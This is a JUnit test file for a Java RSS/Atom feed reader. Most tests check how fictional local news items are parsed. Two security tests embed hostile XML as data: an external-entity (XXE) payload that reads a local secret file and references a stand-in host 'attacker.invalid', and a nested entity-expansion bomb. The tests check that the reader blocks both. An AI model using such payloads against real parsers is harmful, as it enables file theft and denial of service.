package org.dateline.ingest.feed;

import org.dateline.ingest.CollectingSink;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import org.dateline.ingest.IngestOptions;
import org.dateline.ingest.ReadError;
import org.dateline.ingest.html.Fixtures;
import org.dateline.model.Article;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class FeedReaderTest {

  private static final Path RSS2 = Fixtures.path("feed/tidewater-times-rss2.xml");
  private static final Path ATOM = Fixtures.path("feed/northgate-herald-atom.xml");
  private static final Path RSS1 = Fixtures.path("feed/lakeside-post-rss1.rdf");

  @TempDir Path dir;

  @Test
  void readsFullContentEncoded() throws IOException {
    Article fares = read(RSS2).articles().get(0);

    assertThat(fares.text()).isEqualTo("""
        Fares on the Gull Island ferry will rise by 8% from April 1, the operator said on Tuesday.

        “Fuel has doubled since the last review,” said Hollis Grant, the operator’s chief executive.

        Island residents will keep their 50% discount.""");
    assertThat(fares.furniture())
        .containsExactly("The MV Osprey leaves Gull Island. Photo: Coastwise Pictures");
    assertThat(fares.credits()).containsExactly("Coastwise Pictures");
  }

  @Test
  void fallsBackToDescriptionWhenThereIsNoContent() throws IOException {
    Article wall = read(RSS2).articles().get(1);

    assertThat(wall.text()).isEqualTo("Repairs to the harbour wall at Port Lyle finished two weeks "
        + "ahead of schedule.\n\nThe quay reopens on Friday.");
  }

  @Test
  void takesIdFromGuidElseLinkAndNamesItemInSource() throws IOException {
    List<Article> articles = read(RSS2).articles();

    assertThat(articles).extracting(Article::id)
        .containsExactly("tidewater-41877", "https://tidewatertimes.example/2026/03/harbour-wall");
    assertThat(articles).extracting(Article::source)
        .containsExactly(RSS2 + "#item 1", RSS2 + "#item 2");
    assertThat(articles.get(0).url()).contains("https://tidewatertimes.example/2026/03/ferry-fares");
  }

  @Test
  void takesPublishedDateAsWrittenWithoutShiftingTimeZones() throws IOException {
    // 23:30 on 3 March in UTC-5 is 4 March in UTC; the feed wrote 3 March.
    assertThat(read(RSS2).articles()).extracting(a -> a.published().orElseThrow())
        .containsExactly(LocalDate.of(2026, 3, 3), LocalDate.of(2026, 3, 2));
  }

  @Test
  void takesBylineFromCreatorOrAuthorAndOutletFromFeedTitle() throws IOException {
    List<Article> articles = read(RSS2).articles();

    assertThat(articles).extracting(a -> a.byline().orElseThrow())
        .containsExactly("Priya Nandakumar", "Sam Ellery");
    assertThat(articles).extracting(a -> a.outlet().orElseThrow())
        .containsOnly("The Tidewater Times");
    assertThat(articles).extracting(a -> a.title().orElseThrow())
        .containsExactly("Ferry fares to rise by 8% in April", "Harbour wall repairs finished early");
  }

  @Test
  void readsAtomEntriesWithHtmlXhtmlAndTextContent() throws IOException {
    List<Article> entries = atomEntries();

    assertThat(entries.get(0).text()).isEqualTo("The first tram reached the university stop at "
        + "6:02 on Friday morning.\n\nStudents cheered as the doors opened.");
    assertThat(entries.get(1).text()).isEqualTo("The Kessel pass closed at noon after 40 cm of "
        + "snow.\n\nIt will reopen when the ploughs have cleared it.");
    assertThat(entries.get(2).text()).isEqualTo("The council meeting moves to Thursday.\n\n"
        + "Members of the public may attend & speak for 3 minutes each (x < 5 speakers).");
  }

  @Test
  void readsAtomMetadata() throws IOException {
    Article tram = atomEntries().get(0);

    assertThat(tram.id()).isEqualTo("tag:northgateherald.example,2026:entry-3301");
    assertThat(tram.url()).contains("https://northgateherald.example/2026/01/tram-university");
    assertThat(tram.title()).contains("Tram line finally reaches the university");
    assertThat(tram.byline()).contains("Jonas Wirth and Elif Aydın");
    assertThat(tram.outlet()).contains("Northgate Herald");
    assertThat(tram.published()).contains(LocalDate.of(2026, 1, 16));
  }

  @Test
  void takesUpdatedDateWhenAnAtomEntryHasNoPublishedDate() throws IOException {
    assertThat(atomEntries().get(1).published()).contains(LocalDate.of(2026, 1, 15));
  }

  @Test
  void readsRss1Items() throws IOException {
    CollectingSink sink = read(RSS1);

    Article boathouse = sink.onlyArticle();
    assertThat(boathouse.id()).isEqualTo("https://lakesidepost.example/news/boathouse");
    assertThat(boathouse.text())
        .isEqualTo("Residents raised 40,000 to restore the 1912 boathouse on the east shore.");
    assertThat(boathouse.byline()).contains("Greta Holm");
    assertThat(boathouse.published()).contains(LocalDate.of(2025, 10, 7));
    assertThat(boathouse.outlet()).contains("Lakeside Post");
  }

  @Test
  void reportsItemWithoutTextAndReadsTheOthers() throws IOException {
    Path feed = Fixtures.path("feed/tidewater-times-item-without-text.xml");
    CollectingSink sink = read(feed);

    assertThat(sink.errors()).containsExactly(new ReadError(feed + "#item 1",
        "item has no text (no content, description or summary)"));
    assertThat(sink.articles()).extracting(Article::source).containsExactly(feed + "#item 2");
  }

  @Test
  void reportsMalformedFeedInOneLine() throws IOException {
    Path feed = Fixtures.path("feed/broken-feed.xml");
    CollectingSink sink = read(feed);

    assertThat(sink.articles()).isEmpty();
    assertThat(sink.errors()).singleElement().satisfies(error -> {
      assertThat(error.location()).isEqualTo(feed.toString());
      assertThat(error.reason()).startsWith("not well-formed XML: ").contains("item")
          .doesNotContain("\n");
    });
  }

  @Test
  void reportsXmlThatIsNotAFeed() throws IOException {
    Path file = Fixtures.path("feed/not-a-feed.xml");

    assertThat(read(file).errors()).containsExactly(
        new ReadError(file.toString(), "not an RSS or Atom feed (root element <catalog>)"));
  }

  @Test
  void doesNotExpandExternalEntities() throws IOException {
    Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-TOKEN");
    Path feed = write("xxe.xml", """
        <?xml version="1.0"?>
        <!DOCTYPE rss [
          <!ENTITY secret SYSTEM "%s">
          <!ENTITY remote SYSTEM "http://attacker.invalid/collect">
        ]>
        <rss version="2.0"><channel><title>Entity test</title>
          <item><title>Tide tables &secret;</title><link>https://example.org/tides</link>
            <description>Tide tables for March &secret;&remote; are out.</description></item>
        </channel></rss>""".formatted(secret.toUri()));
    CollectingSink sink = read(feed);

    assertThat(sink.articles()).singleElement().satisfies(article -> {
      assertThat(article.text()).doesNotContain("TOP-SECRET").contains("Tide tables for March");
      assertThat(article.title().orElseThrow()).doesNotContain("TOP-SECRET");
    });
    assertThat(sink.errors()).isEmpty();
  }

  @Test
  void reportsEntityExpansionBombAsOneError() throws IOException {
    StringBuilder entities = new StringBuilder("<!ENTITY e0 \"tidetidetide\">");
    for (int i = 1; i < 10; i++) {
      entities.append("<!ENTITY e%d \"%s\">".formatted(i, ("&e" + (i - 1) + ";").repeat(10)));
    }
    Path feed = write("bomb.xml", """
        <?xml version="1.0"?>
        <!DOCTYPE rss [%s]>
        <rss version="2.0"><channel><title>Bomb</title>
          <item><link>https://example.org/x</link><description>&e9;</description></item>
        </channel></rss>""".formatted(entities));
    CollectingSink sink = read(feed);

    assertThat(sink.articles()).isEmpty();
    assertThat(sink.errors()).singleElement()
        .satisfies(e -> assertThat(e.reason()).startsWith("not well-formed XML: "));
  }

  @Test
  void reportsEmptyFileWithTheDecodersReason() throws IOException {
    Path empty = Files.write(dir.resolve("empty.rss"), new byte[0]);

    assertThat(read(empty).errors()).containsExactly(new ReadError(empty.toString(), "empty file"));
  }

  @Test
  void refusesFeedLargerThanTheLimit() throws IOException {
    CollectingSink sink = new CollectingSink();
    new FeedReader(new IngestOptions(1024)).read(RSS2, sink);

    assertThat(sink.errors()).singleElement()
        .satisfies(e -> assertThat(e.reason()).startsWith("larger than the 1 KB limit ("));
  }

  private static List<Article> atomEntries() throws IOException {
    CollectingSink sink = read(ATOM);
    assertThat(sink.errors()).isEmpty();
    assertThat(sink.articles()).hasSize(3);
    return sink.articles();
  }

  private static CollectingSink read(Path file) throws IOException {
    CollectingSink sink = new CollectingSink();
    new FeedReader(IngestOptions.defaults()).read(file, sink);
    return sink;
  }

  private Path write(String name, String content) throws IOException {
    return Files.writeString(dir.resolve(name), content, StandardCharsets.UTF_8);
  }
}
